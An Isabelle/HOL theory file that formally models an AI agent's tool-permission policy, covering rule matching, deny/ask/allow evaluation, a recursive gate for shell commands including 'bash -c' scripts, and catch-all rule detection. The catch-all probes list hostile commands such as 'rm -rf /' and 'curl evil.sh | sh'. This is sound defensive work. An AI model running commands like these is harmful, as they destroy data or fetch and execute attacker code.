(* ===== verification/PermPolicy.thy ===== *)
theory PermPolicy
  imports Decisions SyntaxTree WebDomain
begin

text \<open>
  \<open>permission/policy.rs\<close>: compiled policies, the evaluation of an access (deny before ask
  before allow), the per-segment gate for shell commands and the detection of catch-all rules.
\<close>

section \<open>Matching\<close>

datatype match_context = PathContext | Freeform

definition glob_matches :: "string \<Rightarrow> match_context \<Rightarrow> (bool \<Rightarrow> string \<Rightarrow> bool) option \<Rightarrow> bool" where
  "glob_matches txt ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> p (ctx = PathContext) txt)"

definition domain_matches :: "externals \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches X pattern u =
     (case parse_host X u of
        Some (Some host) \<Rightarrow>
          (let domain = normalize_domain X host; normalized_pattern = normalize_domain X pattern
           in domain = normalized_pattern \<or> ends_with domain (''.'' @ normalized_pattern))
      | _ \<Rightarrow> False)"

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access FAny = True"
| "tool_filter_matches access FBash = (case access of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FEdit = (case access of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FRead = (case access of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FGrep = (case access of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FMcp = (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FWebFetch = (case access of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FWebSearch = (case access of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"

fun access_matches ::
    "externals \<Rightarrow> string \<Rightarrow> pattern_mode \<Rightarrow> (bool \<Rightarrow> string \<Rightarrow> bool) option \<Rightarrow> access_kind \<Rightarrow> bool" where
  "access_matches X pattern mode m (Bash cmd) =
     (let cmd = trim_start cmd in starts_with cmd pattern \<or> glob_matches cmd Freeform m)"
| "access_matches X pattern mode m (Edit path) = glob_matches path PathContext m"
| "access_matches X pattern mode m (Read path) =
     (case path of Some p \<Rightarrow> glob_matches p PathContext m | None \<Rightarrow> False)"
| "access_matches X pattern mode m (Grep path _) =
     (case path of Some p \<Rightarrow> glob_matches p PathContext m | None \<Rightarrow> False)"
| "access_matches X pattern mode m (MCPTool name _) = glob_matches name Freeform m"
| "access_matches X pattern mode m (WebFetch u) =
     (case mode of Domain \<Rightarrow> domain_matches X pattern u | Glob \<Rightarrow> glob_matches u Freeform m)"
| "access_matches X pattern mode m (WebSearch query) =
     (glob_matches query Freeform m \<or> starts_with query pattern)"

definition pattern_matches ::
    "externals \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> (bool \<Rightarrow> string \<Rightarrow> bool) option \<Rightarrow> bool" where
  "pattern_matches X access rule m =
     (case rule_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          (if pattern = ''*'' then True else access_matches X pattern (rule_mode rule) m access))"

definition compile_matcher :: "externals \<Rightarrow> permission_rule \<Rightarrow> (bool \<Rightarrow> string \<Rightarrow> bool) option" where
  "compile_matcher X rule =
     (case opt_filter (\<lambda>p. p \<noteq> ''*'') (rule_pattern rule) of
        None \<Rightarrow> None
      | Some p \<Rightarrow> glob_pattern X p)"

section \<open>Compiled policies\<close>

record compiled_policy =
  cp_config :: permission_config
  cp_matchers :: "(bool \<Rightarrow> string \<Rightarrow> bool) option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

definition policy_new :: "externals \<Rightarrow> permission_config \<Rightarrow> compiled_policy" where
  "policy_new X cfg =
     \<lparr>cp_config = cfg,
      cp_matchers = map (compile_matcher X) (config_rules cfg),
      has_file_restrictions =
        list_ex (\<lambda>r. rule_action r \<in> {RuleDeny, RuleAsk} \<and> rule_tool r \<in> {FRead, FEdit, FAny})
          (config_rules cfg),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. rule_action r \<in> {RuleDeny, RuleAsk} \<and> rule_tool r \<in> {FBash, FAny})
          (config_rules cfg)\<rparr>"

fun tool_label :: "tool_filter \<Rightarrow> string" where
  "tool_label FAny = ''any tool''"
| "tool_label FBash = ''bash''"
| "tool_label FEdit = ''edit''"
| "tool_label FRead = ''read''"
| "tool_label FGrep = ''grep''"
| "tool_label FMcp = ''mcp''"
| "tool_label FWebFetch = ''web_fetch''"
| "tool_label FWebSearch = ''web_search''"

definition deny_reason :: "permission_rule \<Rightarrow> string" where
  "deny_reason r =
     ''Denied by permission policy: deny rule on '' @ tool_label (rule_tool r) @
     (case rule_pattern r of Some p \<Rightarrow> '' matching '' @ dquote @ p @ dquote | None \<Rightarrow> [])"

text \<open>The loop of \<open>evaluate\<close>, with its two flags.\<close>

fun evaluate_rules ::
    "externals \<Rightarrow> access_kind \<Rightarrow> (permission_rule \<times> (bool \<Rightarrow> string \<Rightarrow> bool) option) list \<Rightarrow>
     bool \<Rightarrow> bool \<Rightarrow> decision option" where
  "evaluate_rules X access [] matched_ask matched_allow =
     (if matched_ask then Some Ask else if matched_allow then Some Allow else None)"
| "evaluate_rules X access ((rule, m) # rest) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (rule_tool rule) then
        evaluate_rules X access rest matched_ask matched_allow
      else if \<not> pattern_matches X access rule m then
        evaluate_rules X access rest matched_ask matched_allow
      else case rule_action rule of
             RuleDeny \<Rightarrow> Some (Reject (deny_reason rule))
           | RuleAsk \<Rightarrow> evaluate_rules X access rest True matched_allow
           | RuleAllow \<Rightarrow> evaluate_rules X access rest matched_ask True)"

definition evaluate :: "externals \<Rightarrow> compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate X p access =
     evaluate_rules X access (zip (config_rules (cp_config p)) (cp_matchers p)) False False"

section \<open>The shell command gate\<close>

definition SHELLS :: "string list" where
  "SHELLS = [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']"

fun first_operand :: "string list \<Rightarrow> string option" where
  "first_operand [] = None"
| "first_operand (w # rest) =
     (if w = ''--'' \<or> w = ''-'' then first_opt rest
      else if \<not> starts_with w ''-'' then Some w
      else first_operand rest)"

text \<open>\<open>iter().position(..)\<close>.\<close>

fun position :: "('a \<Rightarrow> bool) \<Rightarrow> 'a list \<Rightarrow> nat option" where
  "position P [] = None"
| "position P (x # xs) = (if P x then Some 0 else map_option Suc (position P xs))"

definition dash_c_cluster :: "string \<Rightarrow> bool" where
  "dash_c_cluster w \<longleftrightarrow> starts_with w ''-'' \<and> \<not> starts_with w ''--'' \<and> contains_char w (CHR ''c'')"

definition shell_dash_c_script :: "string list \<Rightarrow> string option" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> None
      | w # ws \<Rightarrow>
          (if shell_program_name w \<notin> set SHELLS then None
           else case position dash_c_cluster ws of
                  None \<Rightarrow> None
                | Some flag \<Rightarrow>
                    (case get_from words (flag + 2) of
                       None \<Rightarrow> None | Some rest \<Rightarrow> first_operand rest)))"

definition forms :: "string list \<Rightarrow> string list list" where
  "forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words
      in raw_words # (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

definition join_words :: "string list \<Rightarrow> string" where
  "join_words ws = join_with '' '' ws"

text \<open>\<open>evaluate_bash_command_segments\<close> at depth \<open>8 - n\<close>.\<close>

fun segments_left :: "externals \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> decision option" where
  "segments_left X p 0 cmd = Some Ask"
| "segments_left X p (Suc n) cmd =
     (case all_commands_from_script X cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          foldl (\<lambda>dec words.
              (let dec = combine_decisions dec (escalate (evaluate X p (Bash (join_words words))))
               in case shell_dash_c_script words of
                    None \<Rightarrow> dec
                  | Some inner \<Rightarrow> combine_decisions dec (segments_left X p n inner)))
            None (concat (map (\<lambda>s. forms (pc_words s)) segments)))"

definition evaluate_bash_command_segments ::
    "externals \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> decision option" where
  "evaluate_bash_command_segments X p cmd depth = segments_left X p (8 - depth) cmd"

definition evaluate_bash_command_policy ::
    "externals \<Rightarrow> compiled_policy \<Rightarrow> string \<Rightarrow> decision option" where
  "evaluate_bash_command_policy X p cmd =
     (if \<not> has_bash_command_restrictions p then None else evaluate_bash_command_segments X p cmd 0)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map Bash [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPTool n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map WebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "externals \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall X rule =
     (let m = compile_matcher X rule;
          opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches X a rule m) probes)
      in case rule_tool rule of
           FBash \<Rightarrow> opens_all bash_probes
         | FMcp \<Rightarrow> opens_all mcp_probes
         | FWebFetch \<Rightarrow> opens_all webfetch_probes
         | FAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
         | FRead \<Rightarrow> False | FEdit \<Rightarrow> False | FGrep \<Rightarrow> False | FWebSearch \<Rightarrow> False)"

end
